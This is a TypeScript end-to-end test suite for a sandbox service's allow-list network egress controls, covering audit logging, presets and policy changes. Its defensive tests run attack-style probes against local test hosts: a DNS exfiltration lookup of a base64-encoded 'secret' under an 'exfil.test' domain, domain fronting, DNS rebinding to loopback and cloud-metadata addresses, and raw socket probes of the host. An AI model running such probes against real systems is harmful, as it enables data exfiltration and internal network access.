/**
 * Allow-list networks end to end: a real server, real namespace sandboxes with network
 * "allowlist", and test hosts in a network namespace this test creates (HTTP, HTTPS and DNS on a
 * veth pair), never an outside address. What a sandbox process reaches is decided outside the
 * sandbox, by name (SNI, Host) against the rules, with DNS answered and pinned by the server.
 */
import type { TestNetwork } from "@polydev/core/testing";
import { startTestNetwork, testNetworkUnavailable } from "@polydev/core/testing";
import type { FakeProviders } from "@polydev/fake-providers";
import { startFakeProviders } from "@polydev/fake-providers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestServer } from "./testing/harness.js";
import { startTestServer } from "./testing/harness.js";

interface AuditEvent {
  id: number;
  kind: "tcp" | "dns";
  host: string | null;
  address: string;
  port: number;
  decision: "allowed" | "denied";
  reason: string;
  bytesOut: number;
  bytesIn: number;
}

const unavailable = testNetworkUnavailable();

describe.skipIf(unavailable !== undefined)(
  `allow-list networks${unavailable ? ` (skipped: ${unavailable})` : ""}`,
  () => {
    let net: TestNetwork;
    let t: TestServer;
    let id: string;
    let fake: FakeProviders;

    /** curl inside the sandbox; its exit code says how it failed (6: no address, 7: refused, 35/56: TLS/recv). */
    const curl = async (...args: string[]) => {
      const result = await t.api.exec(id, ["curl", "-sS", "--max-time", "10", ...args]);
      expect(result.status).toBe(200);
      return result.body;
    };
    /**
     * The audit log once it holds an event for each of `expected`: rows are written in batches a
     * moment after each decision, and an allowed connection's row once it has ended.
     */
    const audit = async (...expected: ((e: AuditEvent) => boolean)[]): Promise<AuditEvent[]> => {
      for (let attempt = 0; ; attempt++) {
        const response = await t.api.call<{ events: AuditEvent[] }>(
          "GET",
          `/v1/sandboxes/${id}/network/audit?limit=1000`,
        );
        expect(response.status).toBe(200);
        const events = response.body.events;
        if (expected.every((match) => events.some(match)) || attempt === 50) return events;
        await new Promise((resolve) => setTimeout(resolve, 200));
      }
    };
    const waitForRun = async (runId: string): Promise<{ state: string; exitReason: string | null }> => {
      for (let attempt = 0; attempt < 600; attempt++) {
        const run = await t.api.call<{ state: string; exitReason: string | null }>(
          "GET",
          `/v1/runs/${runId}`,
        );
        if (["succeeded", "failed", "cancelled", "timed_out"].includes(run.body.state)) return run.body;
        await new Promise((resolve) => setTimeout(resolve, 100));
      }
      throw new Error(`run ${runId} did not end`);
    };
    /** Fails unless the audit log comes to hold an event `match` describes. */
    const expectAudited = async (match: (e: AuditEvent) => boolean): Promise<void> => {
      const events = await audit(match);
      expect(events.some(match), `no such event among ${JSON.stringify(events.slice(0, 8))}`).toBe(true);
    };

    beforeAll(async () => {
      // Every name is in the zone from the start (the HTTPS certificate names them all).
      const names = [
        "allowed.test",
        "second.test",
        "other.test",
        "rebind.test",
        "metadata.test",
        "private.test",
        "api.wild.test",
      ];
      net = await startTestNetwork({ zone: Object.fromEntries(names.map((name) => [name, []])) });
      // The zone's answers name the test host's addresses, known only once it exists.
      await net.setZone({
        "allowed.test": [net.serverAddress],
        "second.test": [net.privateServerAddress],
        "other.test": [net.serverAddress],
        "rebind.test": ["127.0.0.1"],
        "metadata.test": ["169.254.169.254"],
        "private.test": [net.privateServerAddress],
        "api.wild.test": [net.serverAddress],
      });
      fake = await startFakeProviders();
      t = await startTestServer({
        egressDnsServers: [net.dnsServer],
        upstreams: { anthropic: fake.url, openai: fake.url, gemini: fake.url },
      });
      id = await t.api.createSandbox({
        network: { mode: "allowlist", allow: ["allowed.test", "second.test", "*.wild.test"], deny: [] },
      });
      const written = await t.api.call(
        "PUT",
        `/v1/sandboxes/${id}/files/content?path=ca.pem`,
        net.caCertPem,
        {
          "content-type": "application/octet-stream",
        },
      );
      expect(written.status).toBeLessThan(300);
    }, 120_000);
    afterAll(async () => {
      await t?.close();
      await fake?.close();
      await net?.close();
    });

    it("shows the policy on the sandbox and on its network resource", async () => {
      const sandbox = await t.api.call<{ network: string; egressPolicy: unknown }>(
        "GET",
        `/v1/sandboxes/${id}`,
      );
      expect(sandbox.body.network).toBe("allowlist");
      expect(sandbox.body.egressPolicy).toEqual({
        allow: ["allowed.test", "second.test", "*.wild.test"],
        deny: [],
        presets: [],
      });
      const network = await t.api.call<{ mode: string; effective: { allow: string[] } }>(
        "GET",
        `/v1/sandboxes/${id}/network`,
      );
      expect(network.body.mode).toBe("allowlist");
      expect(network.body.effective.allow).toContain("*.wild.test");
    });

    it("lets an allowed name through over HTTP and HTTPS, by the name the server resolved", async () => {
      const http = await curl("http://allowed.test/");
      expect(http.exitCode).toBe(0);
      expect(http.stdout).toContain("hello from allowed.test");
      const https = await curl("--cacert", "ca.pem", "https://api.wild.test/");
      expect(https.exitCode).toBe(0);
      expect(https.stdout).toContain("hello from api.wild.test");
      const seen = await net.requests();
      expect(seen.some((r) => r.protocol === "https" && r.host === "api.wild.test")).toBe(true);
      const isAllowedHttp = (e: AuditEvent): boolean =>
        e.kind === "tcp" && e.host === "allowed.test" && e.decision === "allowed";
      const allowed = (await audit(isAllowedHttp)).find(isAllowedHttp);
      expect(allowed).toMatchObject({ reason: "allowed_name", port: 80, address: net.serverAddress });
      expect(allowed?.bytesIn).toBeGreaterThan(0);
      await expectAudited((e) => e.kind === "dns" && e.host === "allowed.test" && e.decision === "allowed");
    });

    it("refuses a name that is not listed: no DNS answer, and no way around it with a hard-coded address", async () => {
      const before = (await net.requests()).length;
      const lookup = await curl("http://other.test/");
      expect(lookup.exitCode).toBe(6);
      const forced = await curl(
        "--resolve",
        `other.test:80:${net.serverAddress}`,
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://other.test/",
      );
      expect(forced.stdout).toBe("403");
      const tls = await curl(
        "--cacert",
        "ca.pem",
        "--resolve",
        `other.test:443:${net.serverAddress}`,
        "https://other.test/",
      );
      expect(tls.exitCode).not.toBe(0);
      expect((await net.requests()).length).toBe(before);
      await expectAudited((e) => e.kind === "dns" && e.host === "other.test" && e.reason === "dns_refused");
      await expectAudited((e) => e.kind === "tcp" && e.host === "other.test" && e.decision === "denied");
    });

    it("refuses an SNI that disagrees with the name the address was answered for", async () => {
      // allowed.test's answer pins the server address to that name; second.test is allowed too,
      // but resolves elsewhere: presenting it to allowed.test's address is domain fronting.
      expect((await curl("-o", "/dev/null", "http://allowed.test/")).exitCode).toBe(0);
      const fronted = await curl(
        "--cacert",
        "ca.pem",
        "--resolve",
        `second.test:443:${net.serverAddress}`,
        "https://second.test/",
      );
      expect(fronted.exitCode).not.toBe(0);
      await expectAudited((e) => e.host === "second.test" && e.reason === "sni_mismatch");
    });

    it("refuses DNS answers that point at loopback, metadata or unlisted private addresses", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, {
        allow: ["allowed.test", "second.test", "*.wild.test", "rebind.test", "metadata.test", "private.test"],
      });
      expect((await curl("http://rebind.test/")).exitCode).toBe(6);
      expect((await curl("http://metadata.test/")).exitCode).toBe(6);
      expect((await curl("http://private.test/")).exitCode).toBe(6);
      for (const host of ["rebind.test", "metadata.test", "private.test"]) {
        await expectAudited((e) => e.kind === "dns" && e.host === host && e.reason === "dns_private_answer");
      }
    });

    it("applies a policy change to the next connection without restarting the sandbox", async () => {
      const patched = await t.api.call<{ allow: string[] }>("PATCH", `/v1/sandboxes/${id}/network`, {
        allow: ["allowed.test", "private.test", `${net.privateServerAddress}/32`],
      });
      expect(patched.status).toBe(200);
      const reached = await curl("http://private.test/");
      expect(reached.exitCode).toBe(0);
      expect(reached.stdout).toContain("hello from private.test");
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: [] });
      expect((await curl("http://allowed.test/")).exitCode).not.toBe(0);
    });

    it("lets raw connections to an address follow the CIDR rules", async () => {
      const raw = [
        "python3",
        "-c",
        `import socket\ns = socket.create_connection(("${net.serverAddress}", ${net.httpPort}), timeout=5)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nprint(s.recv(100))`,
      ];
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: [] });
      const refused = await t.api.exec(id, raw);
      expect(refused.body.stdout).not.toContain("hello");
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: [`${net.serverAddress}/32`] });
      const allowed = await t.api.exec(id, raw);
      expect(allowed.body.stdout).toContain("HTTP/1.");
      await expectAudited(
        (e) => e.kind === "tcp" && e.address === net.serverAddress && e.reason === "allowed_cidr",
      );
      await expectAudited(
        (e) =>
          e.kind === "tcp" && e.address === net.serverAddress && e.decision === "denied" && e.host === null,
      );
    });

    it("drops UDP other than DNS inside the sandbox", async () => {
      const udp = await t.api.exec(id, [
        "python3",
        "-c",
        `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n  s.sendto(b"x", ("${net.serverAddress}", 9999)); print("sent")\nexcept OSError as e: print("refused", e.errno)`,
      ]);
      expect(udp.body.stdout).toContain("refused");
    });

    it("streams audit events live and counts them in /metrics", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"] });
      const controller = new AbortController();
      const stream = fetch(`${t.url}/v1/sandboxes/${id}/network/audit/stream`, {
        headers: { authorization: `Bearer ${t.adminKey}`, accept: "text/event-stream" },
        signal: controller.signal,
      });
      const response = await stream;
      expect(response.status).toBe(200);
      const reader = response.body?.getReader();
      let text = "";
      const waitFor = async (needle: string) => {
        while (!text.includes(needle)) {
          const chunk = await reader?.read();
          if (!chunk || chunk.done) break;
          text += new TextDecoder().decode(chunk.value);
        }
      };
      await waitFor("event: ready");
      await curl("http://other.test/");
      await waitFor("other.test");
      controller.abort();
      expect(text).toContain("event: egress");
      expect(text).toContain('"reason":"dns_refused"');

      const metrics = await fetch(`${t.url}/metrics`, { headers: { authorization: `Bearer ${t.adminKey}` } });
      const body = await metrics.text();
      expect(metrics.status).toBe(200);
      expect(body).toMatch(
        /polydev_egress_connections_total\{kind="dns",decision="denied",reason="dns_refused"\} [1-9]/,
      );
      expect(body).toMatch(/polydev_egress_bytes_total\{direction="in"\} [1-9]/);
    });

    it("refuses rule changes for sandboxes that are not allow-lists, and bad rules with a 400", async () => {
      const plain = await t.api.createSandbox({});
      const conflict = await t.api.call<{ error: { code: string } }>(
        "PATCH",
        `/v1/sandboxes/${plain}/network`,
        {
          allow: ["allowed.test"],
        },
      );
      expect(conflict.status).toBe(409);
      expect(conflict.body.error.code).toBe("conflict");
      const bad = await t.api.call<{ error: { code: string; message: string } }>(
        "PATCH",
        `/v1/sandboxes/${id}/network`,
        {
          allow: ["http://allowed.test/"],
        },
      );
      expect(bad.status).toBe(400);
      expect(bad.body.error.code).toBe("invalid_request");
      const unknownPreset = await t.api.call<{ error: { message: string } }>(
        "PATCH",
        `/v1/sandboxes/${id}/network`,
        {
          presets: ["no-such-preset"],
        },
      );
      expect(unknownPreset.status).toBe(400);
      expect(unknownPreset.body.error.message).toContain("no-such-preset");
      await t.api.call("DELETE", `/v1/sandboxes/${plain}`);
    });

    it("lets admins define presets that sandboxes name, and refuses deleting one in use", async () => {
      const put = await t.api.call("PUT", "/v1/admin/network-presets/test-hosts", {
        description: "the test hosts",
        allow: ["*.wild.test"],
      });
      expect(put.status).toBe(200);
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: [], presets: ["test-hosts"] });
      expect((await curl("--cacert", "ca.pem", "https://api.wild.test/")).exitCode).toBe(0);
      const inUse = await t.api.call("DELETE", "/v1/admin/network-presets/test-hosts");
      expect(inUse.status).toBe(409);
      // Narrowing the preset narrows every sandbox naming it, at its next connection.
      await t.api.call("PUT", "/v1/admin/network-presets/test-hosts", { allow: ["nothing.test"] });
      expect((await curl("--cacert", "ca.pem", "https://api.wild.test/")).exitCode).not.toBe(0);
      const presets = await t.api.call<{ presets: { name: string }[] }>("GET", "/v1/network-presets");
      expect(presets.body.presets.map((p) => p.name)).toEqual(
        expect.arrayContaining(["github", "package-registries", "test-hosts"]),
      );
    });

    it("gives a user's sandboxes the admin's default network when a create names none", async () => {
      const me = await t.api.call<{ id: string }>("GET", "/v1/me");
      const set = await t.api.call("PUT", `/v1/admin/users/${me.body.id}/network-default`, {
        network: { mode: "allowlist", allow: ["allowed.test"] },
      });
      expect(set.status).toBe(200);
      const other = await t.api.createSandbox({});
      const created = await t.api.call<{ network: string; egressPolicy: { allow: string[] } }>(
        "GET",
        `/v1/sandboxes/${other}`,
      );
      expect(created.body.network).toBe("allowlist");
      expect(created.body.egressPolicy.allow).toEqual(["allowed.test"]);
      await t.api.call("PUT", `/v1/admin/users/${me.body.id}/network-default`, { network: null });
      await t.api.call("DELETE", `/v1/sandboxes/${other}`);
    });

    it("never reaches the host itself, whatever the rules say: its loopback, its addresses, link-local", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["*", "0.0.0.0/0"], presets: [] });
      const serverPort = new URL(t.url).port;
      for (const address of ["127.0.0.1", net.hostAddress, "169.254.169.254"]) {
        const probe = await t.api.exec(id, [
          "python3",
          "-c",
          `import socket\ns = socket.create_connection(("${address}", ${serverPort}), timeout=5)\ns.sendall(b"GET /healthz HTTP/1.0\\r\\n\\r\\n")\nprint(repr(s.recv(4096)))`,
        ]);
        // Refused inside (nothing listens there) or by the policy (its 403), never the server itself.
        expect(probe.body.stdout, address).not.toContain("200 OK");
      }
      // A name the rules allow, answered with the host's loopback, is no way in either.
      expect((await curl(`http://rebind.test:${serverPort}/healthz`)).exitCode).not.toBe(0);
      await expectAudited((e) => e.address === net.hostAddress && e.reason === "never_reachable");
      await expectAudited((e) => e.address === "169.254.169.254" && e.decision === "denied");
    });

    it("never asks the resolver about a name the rules do not allow (no DNS exfiltration)", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
      await t.api.exec(id, "getent hosts c2VjcmV0.exfil.test || true");
      await curl("http://allowed.test/");
      const asked = (await net.dnsQueries()).map((q) => q.name.toLowerCase());
      expect(asked).toContain("allowed.test");
      expect(asked.some((name) => name.includes("exfil"))).toBe(false);
      await expectAudited(
        (e) => e.kind === "dns" && e.host === "c2vjcmv0.exfil.test" && e.decision === "denied",
      );
    });

    it("runs a run's setup under wider rules, then the agent under the sandbox's own", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
      await t.api.call("PUT", "/v1/credentials/anthropic", { apiKey: "sk-egress-test-key-123456" });
      fake.setScript([{ text: "Set up and done." }]);
      const started = await t.api.call<{ id: string }>("POST", "/v1/runs", {
        agent: "builtin",
        prompt: "say done",
        sandboxId: id,
        setup: {
          command: "curl -sSf http://other.test/ -o fetched-in-setup.txt",
          network: { allow: ["other.test"] },
        },
      });
      expect(started.status).toBe(201);
      const run = await waitForRun(started.body.id);
      expect(run.state, run.exitReason ?? "").toBe("succeeded");
      const fetched = await t.api.call("GET", `/v1/sandboxes/${id}/files/content?path=fetched-in-setup.txt`);
      expect(String(fetched.body)).toContain("hello from other.test");
      // The wider rules ended with the setup.
      expect((await curl("http://other.test/")).exitCode).toBe(6);

      const failing = await t.api.call<{ id: string }>("POST", "/v1/runs", {
        agent: "builtin",
        prompt: "never reached",
        sandboxId: id,
        setup: { command: "curl -sSf http://other.test/" },
      });
      const failed = await waitForRun(failing.body.id);
      expect(failed.state).toBe("failed");
      expect(failed.exitReason).toContain("setup_failed");
      fake.setScript(undefined);

      const plain = await t.api.createSandbox({});
      const refused = await t.api.call<{ error: { code: string } }>("POST", "/v1/runs", {
        agent: "builtin",
        prompt: "x",
        sandboxId: plain,
        setup: { command: "true", network: { allow: ["other.test"] } },
      });
      expect(refused.status).toBe(409);
      await t.api.call("DELETE", `/v1/sandboxes/${plain}`);
    });

    it("survives a sandbox destroyed in the middle of a transfer through its policy", async () => {
      const doomed = await t.api.createSandbox({ network: { mode: "allowlist", allow: ["allowed.test"] } });
      const download = t.api.exec(
        doomed,
        ["curl", "-sS", "-o", "/dev/null", "http://allowed.test/bytes/536870912"],
        {
          timeoutMs: 60_000,
        },
      );
      // Wait until bytes flow, then pull the sandbox out from under the connection.
      for (let attempt = 0; attempt < 100; attempt++) {
        const metrics = await (
          await fetch(`${t.url}/metrics`, { headers: { authorization: `Bearer ${t.adminKey}` } })
        ).text();
        if (/polydev_egress_connections_total\{kind="dns",decision="allowed"/.test(metrics)) break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect((await t.api.call("DELETE", `/v1/sandboxes/${doomed}`)).status).toBe(200);
      const ended = await download;
      expect([200, 409, 502]).toContain(ended.status);
      const health = await fetch(`${t.url}/healthz`);
      expect(health.status).toBe(200);
      // The sandbox under test is unaffected.
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
      expect((await curl("http://allowed.test/")).exitCode).toBe(0);
    });

    it("answers more connections in a row than a sandbox may hold at once", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
      // 100 one-request connections, one after another (the guard holds at most 64 at once): each
      // must give its slot back once both sides have closed.
      const burst = await t.api.exec(id, [
        "node",
        "-e",
        [
          'const net = require("node:net");',
          "const once = () => new Promise((resolve) => {",
          '  const socket = net.connect(80, "allowed.test");',
          '  let data = "";',
          '  socket.on("connect", () => socket.write("GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"));',
          '  socket.on("data", (chunk) => { data += chunk; });',
          '  socket.on("error", () => undefined);',
          '  socket.on("close", () => resolve(data.includes("hello from allowed.test")));',
          "});",
          "(async () => { let ok = 0; for (let i = 0; i < 100; i++) ok += (await once()) ? 1 : 0; console.log(ok); })();",
        ].join("\n"),
      ]);
      expect(burst.body.stdout.trim()).toBe("100");
    });

    it("keeps intercepting across a server restart", async () => {
      await t.api.call("PATCH", `/v1/sandboxes/${id}/network`, { allow: ["allowed.test"], presets: [] });
      await t.restart();
      const again = await curl("http://allowed.test/");
      expect(again.exitCode).toBe(0);
      expect(again.stdout).toContain("hello from allowed.test");
    });
  },
);
